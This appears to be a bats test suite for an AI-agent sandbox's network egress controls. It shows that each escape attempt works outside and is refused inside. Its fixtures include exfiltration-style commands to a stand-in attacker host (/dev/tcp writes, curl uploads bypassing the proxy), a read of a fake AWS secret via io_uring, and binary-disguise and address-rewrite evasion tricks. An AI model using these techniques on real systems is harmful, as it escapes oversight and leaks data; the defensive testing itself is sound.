#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# THREATS.md "Network egress" 1, 2, 5-9: every attempt first works outside any sandbox (as the
# sandbox's own user, in the fake internet), then fails inside the agent's sandbox with EPERM
# and an `osh: denied ...` line naming destination and binary, or with the kernel's refusal
# where no event exists. One test shows the policy's own traffic still works.

bats_require_minimum_version 1.5.0

setup_file() {
	load lib.bash
	attacks_setup_file || return
	[ -z "$SKIP_REASON" ] || return 0
	attacks_special_addrs || return
	fakenet_start_tcp_echo "$API4" 22 || return
	# ICMP "ping" sockets need no privilege once the group range allows them.
	fakenet_run_client sysctl -qw net.ipv4.ping_group_range='0 2147483647'
}

teardown_file() {
	load lib.bash
	attacks_teardown_file
}

setup() {
	load lib.bash
	attacks_setup
}

teardown() {
	attacks_teardown
}

@test "legit: the agent reaches its API and package index by name; its workdir is writable" {
	attack 0 "policy's own traffic and files (control)"
	run in_sandbox /bin/sh -c "
		'$CURL' -sS --cacert '$CA' https://api.fakenet.test/v1/chat &&
		'$CURL' -sS --cacert '$CA' https://pypi.fakenet.test/simple/ &&
		'$AGENT' tcp api.fakenet.test 443 &&
		echo edit >src/new.py && cat src/new.py && cat main.py && cat ../.bashrc"
	echo "$output"
	[ "$status" -eq 0 ]
	has_line "fakenet https $API4:443 /v1/chat"
	has_line "fakenet https $PYPI4:443 /simple/"
	has_line reached
	has_line edit
	has_line 'print("hello")'
	has_line 'alias ls=ls'
	no_line "osh: denied *"
	ROW_OUT=works ROW_IN=works ROW_EVENT="none (nothing denied)"
}

# ---- 1: an address no policy names -------------------------------------------------------------

@test "T1 TCP connect to an address no policy names" {
	attack 1 "TCP connect, unlisted IPv4"
	outside_ok "received: x" "$AGENT" tcp "$EVIL4" 8080 x
	inside_denied "connect: EPERM*" "$AGENT" tcp "$EVIL4" 8080 x
	event "connect $EVIL4:8080/tcp by $AGENT (pid *): no network_policies entry allows it*"
}

@test "T1 TCP connect to an unlisted IPv6 address" {
	attack 1 "TCP connect, unlisted IPv6"
	outside_ok "received: x" "$AGENT" tcp "$EVIL6" 8080 x
	inside_denied "connect: EPERM*" "$AGENT" tcp "$EVIL6" 8080 x
	event "connect *$EVIL6*8080/tcp by $AGENT (pid *)*"
}

@test "T1 the API's own address on another port" {
	attack 1 "allowed address, other port (22)"
	run in_sandbox "$AGENT" tcp api.fakenet.test 443
	[ "$status" -eq 0 ]
	outside_ok "received: x" "$AGENT" tcp "$API4" 22 x
	inside_denied "connect: EPERM*" /bin/sh -c "'$AGENT' tcp api.fakenet.test 443 && exec '$AGENT' tcp $API4 22 x"
	event "connect $API4:22/tcp by $AGENT (pid *)*"
}

@test "T1 UDP sendto without connect" {
	attack 1 "UDP sendto, no connect"
	outside_ok "received: u" "$AGENT" udp-sendto "$EVIL4" 8080 u
	inside_denied "sendto: EPERM*" "$AGENT" udp-sendto "$EVIL4" 8080 u
	event "sendmsg $EVIL4:8080/udp by $AGENT (pid *)*"
}

@test "T1 UDP sendmmsg without connect" {
	attack 1 "UDP sendmmsg, no connect"
	outside_ok "received: u" "$AGENT" sendmmsg "$EVIL4" 8080 u
	inside_denied "sendmmsg: EPERM*" "$AGENT" sendmmsg "$EVIL4" 8080 u
	event "sendmsg $EVIL4:8080/udp by $AGENT (pid *)*"
}

@test "T1 UDP connect, then send" {
	attack 1 "UDP connect + send (backstop)"
	outside_ok "received: u" "$AGENT" udp-connect "$EVIL4" 8080 u
	inside_denied "send: EPERM*" "$AGENT" udp-connect "$EVIL4" 8080 u
	event "sendmsg $EVIL4:8080/udp by $AGENT (pid *)*"
}

@test "T1 TCP Fast Open (sendto MSG_FASTOPEN)" {
	attack 1 "TCP Fast Open"
	outside_ok "received: f" "$AGENT" tfo "$EVIL4" 8080 f
	inside_denied "sendto: EPERM*" "$AGENT" tfo "$EVIL4" 8080 f
	event "* $EVIL4:8080/tcp by $AGENT (pid *)*"
}

# ---- 2: the same destination written differently ------------------------------------------------

@test "T2 IPv4-mapped IPv6 (::ffff:a.b.c.d)" {
	attack 2 "IPv4-mapped ::ffff:203.0.113.66"
	outside_ok "received: m" "$AGENT" tcp "::ffff:$EVIL4" 8080 m
	inside_denied "connect: EPERM*" "$AGENT" tcp "::ffff:$EVIL4" 8080 m
	event "connect $EVIL4:8080/tcp by $AGENT (pid *)*"
}

@test "T2 NAT64 (64:ff9b::/96)" {
	attack 2 "NAT64 64:ff9b::cb00:7142"
	outside_ok "received: n" "$AGENT" tcp 64:ff9b::cb00:7142 8080 n
	inside_denied "connect: EPERM*" "$AGENT" tcp 64:ff9b::cb00:7142 8080 n
	event "connect $EVIL4:8080/tcp by $AGENT (pid *)*"
}

@test "T2 6to4 (2002::/16)" {
	attack 2 "6to4 2002:cb00:7142::1"
	outside_ok "received: s" "$AGENT" tcp 2002:cb00:7142::1 8080 s
	inside_denied "connect: EPERM*" "$AGENT" tcp 2002:cb00:7142::1 8080 s
	event "connect $EVIL4:8080/tcp by $AGENT (pid *)*"
}

@test "T2 a host-local service on 127.0.0.1" {
	attack 2 "loopback 127.0.0.1"
	outside_ok "received: l" "$AGENT" tcp 127.0.0.1 8080 l
	inside_denied "connect: EPERM*" "$AGENT" tcp 127.0.0.1 8080 l
	event "connect 127.0.0.1:8080/tcp by $AGENT (pid *): loopback, link-local, metadata and unspecified addresses*"
}

@test "T2 another address of 127.0.0.0/8" {
	attack 2 "loopback 127.1.2.3"
	outside_ok "received: l" "$AGENT" tcp 127.1.2.3 8080 l
	inside_denied "connect: EPERM*" "$AGENT" tcp 127.1.2.3 8080 l
	event "connect 127.1.2.3:8080/tcp by $AGENT (pid *)*"
}

@test "T2 IPv6 loopback ::1" {
	attack 2 "loopback ::1"
	outside_ok "received: l" "$AGENT" tcp ::1 8080 l
	inside_denied "connect: EPERM*" "$AGENT" tcp ::1 8080 l
	event "connect *::1*8080/tcp by $AGENT (pid *)*"
}

@test "T2 loopback through the mapped form ::ffff:127.0.0.1" {
	attack 2 "mapped loopback ::ffff:127.0.0.1"
	outside_ok "received: l" "$AGENT" tcp ::ffff:127.0.0.1 8080 l
	inside_denied "connect: EPERM*" "$AGENT" tcp ::ffff:127.0.0.1 8080 l
	event "connect 127.0.0.1:8080/tcp by $AGENT (pid *)*"
}

@test "T2 unspecified 0.0.0.0 (reaches local listeners)" {
	attack 2 "unspecified 0.0.0.0"
	outside_ok "received: z" "$AGENT" tcp 0.0.0.0 8080 z
	inside_denied "connect: EPERM*" "$AGENT" tcp 0.0.0.0 8080 z
	event "connect 0.0.0.0:8080/tcp by $AGENT (pid *)*"
}

@test "T2 cloud metadata 169.254.169.254" {
	attack 2 "metadata 169.254.169.254"
	outside_ok "received: md" "$AGENT" tcp 169.254.169.254 80 md
	inside_denied "connect: EPERM*" "$AGENT" tcp 169.254.169.254 80 md
	event "connect 169.254.169.254:80/tcp by $AGENT (pid *): loopback, link-local, metadata*"
}

# ---- 5: the API reached by a binary the policy does not list -------------------------------------

PY_API='import socket; s = socket.create_connection(("api.fakenet.test", 443), timeout=3); print("reached")'

@test "T5 an interpreter (python3 -c)" {
	attack 5 "interpreter: python3 -c"
	outside_ok reached /usr/bin/python3 -c "$PY_API"
	inside_denied "PermissionError: *Operation not permitted*" /usr/bin/python3 -c "$PY_API"
	event "connect $API4:443/tcp by /usr/bin/python3* (pid *): a network_policies entry allows the destination, but not for this binary*"
}

@test "T5 a copy of the allowed binary" {
	attack 5 "copied binary"
	outside_ok reached "$TOOL" tcp api.fakenet.test 443
	inside_denied "connect: EPERM*" "$TOOL" tcp api.fakenet.test 443
	event "connect $API4:443/tcp by $TOOL (pid *)*not for this binary*"
}

@test "T5 a copy renamed to the allowed binary's name" {
	attack 5 "copy renamed 'agent' in the workdir"
	outside_ok reached /bin/sh -c "cp '$AGENT' ./agent && exec ./agent tcp api.fakenet.test 443"
	rm -f "$WORK/agent"
	inside_denied "connect: EPERM*" /bin/sh -c "cp '$AGENT' ./agent && exec ./agent tcp api.fakenet.test 443"
	event "connect $API4:443/tcp by $WORK/agent (pid *)*"
	rm -f "$WORK/agent"
}

@test "T5 a symlink named like the allowed binary, to another binary" {
	attack 5 "symlink 'agent' -> unlisted binary"
	outside_ok reached /bin/sh -c "ln -sf '$TOOL' ./agent && exec ./agent tcp api.fakenet.test 443"
	rm -f "$WORK/agent"
	inside_denied "connect: EPERM*" /bin/sh -c "ln -sf '$TOOL' ./agent && exec ./agent tcp api.fakenet.test 443"
	event "connect $API4:443/tcp by $TOOL (pid *)*"
	rm -f "$WORK/agent"
}

@test "T5 the allowed binary's bytes run from a deleted file" {
	attack 5 "deleted file (execveat of unlinked copy)"
	outside_ok reached "$TOOL" deleted-exec "$AGENT" ./gone tcp api.fakenet.test 443
	inside_denied "connect: EPERM*" "$TOOL" deleted-exec "$AGENT" ./gone tcp api.fakenet.test 443
	event "connect $API4:443/tcp by * (pid *)*not for this binary*"
}

@test "T5 the allowed binary's bytes run from a memfd" {
	attack 5 "memfd (fexecve)"
	outside_ok reached "$TOOL" memfd-exec "$AGENT" tcp api.fakenet.test 443
	inside_denied "connect: EPERM*" "$TOOL" memfd-exec "$AGENT" tcp api.fakenet.test 443
	event "connect $API4:443/tcp by * (pid *)*not for this binary*"
}

# ---- 6: other socket families and protocols ------------------------------------------------------

# socket_case N VARIANT ARGS [--root]: socket(ARGS) works outside (as the agent's user, or root),
# is refused inside. Prints nothing and returns 3 when the kernel lacks the family/protocol.
socket_outside() {
	local who=as_agent
	if [ "${4:-}" = --root ]; then who=fakenet_run_client; fi
	run "$who" "$AGENT" socket "$1" "$2" "$3"
	echo "outside: $output"
	if [[ $output == *EAFNOSUPPORT* || $output == *EPROTONOSUPPORT* || $output == *ESOCKTNOSUPPORT* ]]; then
		ROW_OUT="absent in kernel"
		counted_skip "this kernel has no socket($1, $2, $3): ${output}"
	fi
	[ "$status" -eq 0 ]
	ROW_OUT=works
	[ "$who" = as_agent ] || ROW_OUT="works (root)"
}

@test "T6 raw IPv4 socket" {
	attack 6 "raw socket (AF_INET, SOCK_RAW)"
	socket_outside 2 3 1 --root
	inside_denied "socket: EPERM*" "$AGENT" socket 2 3 1
	kernel_only "no CAP_NET_RAW: refused before osh's sock_create hook"
}

@test "T6 ICMP ping socket (no privilege needed)" {
	attack 6 "ICMP ping socket"
	socket_outside 2 2 1
	inside_denied "socket: EPERM*" "$AGENT" socket 2 2 1
	event "socket icmp socket by $AGENT (pid *)*"
}

@test "T6 ICMPv6 ping socket" {
	attack 6 "ICMPv6 ping socket"
	socket_outside 10 2 58
	inside_denied "socket: EPERM*" "$AGENT" socket 10 2 58
	event "socket * by $AGENT (pid *)*"
}

@test "T6 MPTCP" {
	attack 6 "MPTCP socket"
	socket_outside 2 1 262
	inside_denied "socket: EPERM*" "$AGENT" socket 2 1 262
	event "socket * by $AGENT (pid *)*"
}

@test "T6 SCTP" {
	attack 6 "SCTP socket"
	socket_outside 2 1 132
	inside_denied "socket: EPERM*" "$AGENT" socket 2 1 132
	event "socket * by $AGENT (pid *)*"
}

@test "T6 UDP-Lite" {
	attack 6 "UDP-Lite socket"
	socket_outside 2 2 136
	inside_denied "socket: EPERM*" "$AGENT" socket 2 2 136
	event "socket * by $AGENT (pid *)*"
}

@test "T6 AF_PACKET" {
	attack 6 "AF_PACKET"
	socket_outside 17 3 0 --root
	inside_denied "socket: EPERM*" "$AGENT" socket 17 3 0
	kernel_only "$SECCOMP_NOEVENT"
}

@test "T6 AF_VSOCK" {
	attack 6 "AF_VSOCK"
	socket_outside 40 1 0
	inside_denied "socket: EPERM*" "$AGENT" socket 40 1 0
	kernel_only "$SECCOMP_NOEVENT"
}

@test "T6 AF_ALG" {
	attack 6 "AF_ALG"
	socket_outside 38 5 0
	inside_denied "socket: EPERM*" "$AGENT" socket 38 5 0
	kernel_only "$SECCOMP_NOEVENT"
}

@test "T6 AF_BLUETOOTH" {
	attack 6 "AF_BLUETOOTH"
	socket_outside 31 5 0
	inside_denied "socket: EPERM*" "$AGENT" socket 31 5 0
	kernel_only "$SECCOMP_NOEVENT"
}

@test "T6 AF_NETLINK other than NETLINK_ROUTE (audit)" {
	attack 6 "AF_NETLINK (NETLINK_AUDIT)"
	socket_outside 16 3 9
	inside_denied "socket: EPERM*" "$AGENT" socket 16 3 9
	kernel_only "$SECCOMP_NOEVENT"
}

# unix_server PATH GROUP MODE: a host daemon's socket (python, accepts and echoes one line).
unix_server() {
	osht_spawn "unix-${1##*/}" /usr/bin/python3 -c '
import os, socket, sys
p, g, m = sys.argv[1], int(sys.argv[2]), int(sys.argv[3], 8)
s = socket.socket(socket.AF_UNIX)
s.bind(p); os.chown(p, 0, g); os.chmod(p, m); s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b"daemon-hello\n"); c.close()' "$@"
	osht_wait_for 5 test -S "$1"
}

# The refusal in one write: osh's denial line (another thread) could split Python's traceback.
PY_UNIX_CONNECT='import os, socket, sys
def connect(addr):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(addr)
    except OSError as e:
        os.write(2, ("connect: %s\n" % e).encode())
        sys.exit(1)
    print(s.recv(64).decode().strip())
'
PY_UNIX="${PY_UNIX_CONNECT}connect(sys.argv[1])"

# unix_hooks: the kernel has the cgroup connect_unix/sendmsg_unix hooks (Linux 6.7+), with which
# osh refuses every named and abstract unix socket before the kernel looks the peer up.
unix_hooks() {
	local v
	v=$(uname -r)
	v=${v%%-*}
	[ "$(printf '%s\n6.7\n' "$v" | sort -V | head -n1)" = 6.7 ]
}

@test "T6 a host daemon's unix socket (docker.sock: root, group-only)" {
	attack 6 "docker.sock (0660, daemon's group)"
	unix_server "$R/run/docker.sock" 4 0660
	# Outside: the agent's user in the daemon's group (as a docker-group member would be).
	run fakenet_run_client setpriv --reuid=65534 --regid=65534 --groups=4 -- /usr/bin/python3 -c "$PY_UNIX" "$R/run/docker.sock"
	echo "$output"
	[ "$status" -eq 0 ]
	has_line daemon-hello
	ROW_OUT="works (group member)"
	if unix_hooks; then
		inside_denied "connect: *Operation not permitted" /usr/bin/python3 -c "$PY_UNIX" "$R/run/docker.sock"
		event "connect-unix unix:$R/run/docker.sock by /usr/bin/python3* (pid *)*"
		return
	fi
	inside_denied "connect: *Permission denied" /usr/bin/python3 -c "$PY_UNIX" "$R/run/docker.sock"
	kernel_only "DAC: the sandbox has no supplementary groups"
}

@test "T6 a world-writable unix socket outside every policy path" {
	attack 6 "pathname unix socket, mode 0666"
	unix_server "$R/run/open.sock" 0 0666
	outside_ok daemon-hello /usr/bin/python3 -c "$PY_UNIX" "$R/run/open.sock"
	if ! unix_hooks; then
		ROW_IN="NOT STOPPED"
		counted_skip "not stopped: kernel $(uname -r) < 6.7 has no cgroup unix hooks and Landlock has no right for connect() to a pathname unix socket (docs/arch-egress.md)"
	fi
	inside_denied "connect: *Operation not permitted" /usr/bin/python3 -c "$PY_UNIX" "$R/run/open.sock"
	event "connect-unix unix:$R/run/open.sock by /usr/bin/python3* (pid *)*"
}

@test "T6 an abstract unix socket of a process outside" {
	attack 6 "abstract unix socket (outside process)"
	local abi
	abi=$("$OSHCTL" doctor -o json | /usr/bin/python3 -c 'import json, sys; print(json.load(sys.stdin)["landlock_abi"])')
	[ "$abi" -ge 6 ] || { ROW_OUT=-; counted_skip "Landlock ABI $abi < 6 has no abstract socket scope"; }
	# Abstract names live in the network namespace: the daemon runs in the client's.
	osht_spawn abstract nsenter --net="/run/netns/$FAKENET_SBX" -- setpriv --reuid=65534 \
		--regid=65534 --clear-groups -- /usr/bin/python3 -c '
import socket
s = socket.socket(socket.AF_UNIX); s.bind("\0osht-attack-abs"); s.listen(8)
while True:
    c, _ = s.accept(); c.sendall(b"daemon-hello\n"); c.close()'
	local py="${PY_UNIX_CONNECT}connect('\\0osht-attack-abs')"
	osht_wait_for 5 as_agent /usr/bin/python3 -c "$py"
	outside_ok daemon-hello /usr/bin/python3 -c "$py"
	inside_denied "connect: *Operation not permitted" /usr/bin/python3 -c "$py"
	if unix_hooks; then
		# The cgroup hook runs before the peer lookup, so before Landlock's scope check.
		event "connect-unix unix:@osht-attack-abs by /usr/bin/python3* (pid *)*"
		return
	fi
	kernel_only "$LANDLOCK_NOEVENT (scope ABSTRACT_UNIX_SOCKET)"
}

# ---- 7: io_uring -----------------------------------------------------------------------------------

@test "T7 io_uring connect (no connect syscall)" {
	attack 7 "io_uring IORING_OP_CONNECT"
	outside_ok "received: iu" "$AGENT" uring-connect "$EVIL4" 8080 iu
	inside_denied "io_uring_setup: EPERM*" "$AGENT" uring-connect "$EVIL4" 8080 iu
	kernel_only "$SECCOMP_NOEVENT"
}

@test "T7 io_uring openat+read of a secret (no open syscall)" {
	attack 7 "io_uring IORING_OP_OPENAT"
	outside_ok SECRET-AWS-KEY "$AGENT" uring-read "$R/secrets/aws"
	inside_denied "io_uring_setup: EPERM*" "$AGENT" uring-read "$R/secrets/aws"
	kernel_only "$SECCOMP_NOEVENT"
}

# ---- 8: sockets from before the sandbox, or passed in ----------------------------------------------

@test "T8 a socket the caller had open is not inherited" {
	attack 8 "socket open in the caller (fd 7)"
	run fakenet_run_client /bin/bash -c "exec 7<>/dev/tcp/$EVIL4/8080 && printf leak >&7 && read -t 3 -N 4 r <&7 && echo \"received: \$r\""
	echo "$output"
	[ "$status" -eq 0 ]
	has_line "received: leak"
	ROW_OUT="works (root)"
	run fakenet_run_client /bin/bash -c "exec 7<>/dev/tcp/$EVIL4/8080 && exec \"\$@\"" bash \
		"$OSHCTL" run --embedded -q --policy "$POLICY" --workdir "$WORK" -- /bin/sh -c 'printf leak >&7 && echo SENT'
	echo "$output"
	[ "$status" -ne 0 ]
	no_line SENT
	has_line "*7: Bad file descriptor*"
	ROW_IN="EBADF (closed)"
	ROW_EVENT="n/a: descriptor closed before exec (close_range); nothing reaches a hook"
}

@test "T8 a connected socket passed in with SCM_RIGHTS by a process outside" {
	attack 8 "SCM_RIGHTS from an outside process"
	local sock=$R/run/pass.sock
	osht_spawn scm1 nsenter --net="/run/netns/$FAKENET_SBX" -- "$TOOL" scm-serve "$sock" "$EVIL4" 8080
	osht_wait_for 5 test -S "$sock"
	outside_ok "received: exfil" "$AGENT" scm-recv "$sock" exfil
	rm -f "$sock"
	osht_spawn scm2 nsenter --net="/run/netns/$FAKENET_SBX" -- "$TOOL" scm-serve "$sock" "$EVIL4" 8080
	osht_wait_for 5 test -S "$sock"
	if ! unix_hooks; then
		ROW_IN="NOT STOPPED"
		counted_skip "not stopped: kernel $(uname -r) < 6.7 has no cgroup unix hooks; the passed socket's traffic is accounted to the outside cgroup"
	fi
	# The socket never arrives: the unix socket it would come over is refused.
	inside_denied "connect unix: EPERM (Operation not permitted)" "$AGENT" scm-recv "$sock" exfil
	event "connect-unix unix:$sock by * (pid *)*"
}

# ---- 9: ignoring the proxy settings --------------------------------------------------------------

@test "T9 curl ignores HTTPS_PROXY and dials the attacker directly" {
	attack 9 "curl --noproxy '*' despite HTTPS_PROXY"
	local url=https://$EVIL4/upload
	outside_ok "fakenet https $EVIL4:443 /upload" env HTTPS_PROXY=http://pypi.fakenet.test:443 "$CURL" -sS --noproxy '*' --cacert "$CA" "$url"
	# curl writes its error in pieces, which osh's own denial line (another thread) can split:
	# one write of the whole message keeps both lines whole.
	inside_denied "curl: (7) *" /bin/sh -c "HTTPS_PROXY=http://pypi.fakenet.test:443 '$CURL' -sS --noproxy '*' --cacert '$CA' --stderr ./curl.err '$url'; rc=\$?; cat ./curl.err; rm -f ./curl.err; exit \$rc"
	event "connect $EVIL4:443/tcp by $CURL (pid *)*"
}

@test "T9 python urllib without proxies" {
	attack 9 "python urllib, proxies disabled"
	local py="import ssl, urllib.request as u; c = ssl.create_default_context(cafile='$CA'); o = u.build_opener(u.ProxyHandler({}), u.HTTPSHandler(context=c)); print(o.open('https://$EVIL4/up', timeout=3).read().decode())"
	outside_ok "fakenet https $EVIL4:443 /up" env HTTPS_PROXY=http://pypi.fakenet.test:443 /usr/bin/python3 -c "$py"
	inside_denied "*Operation not permitted*" env HTTPS_PROXY=http://pypi.fakenet.test:443 /usr/bin/python3 -c "$py"
	event "connect $EVIL4:443/tcp by /usr/bin/python3* (pid *)*"
}
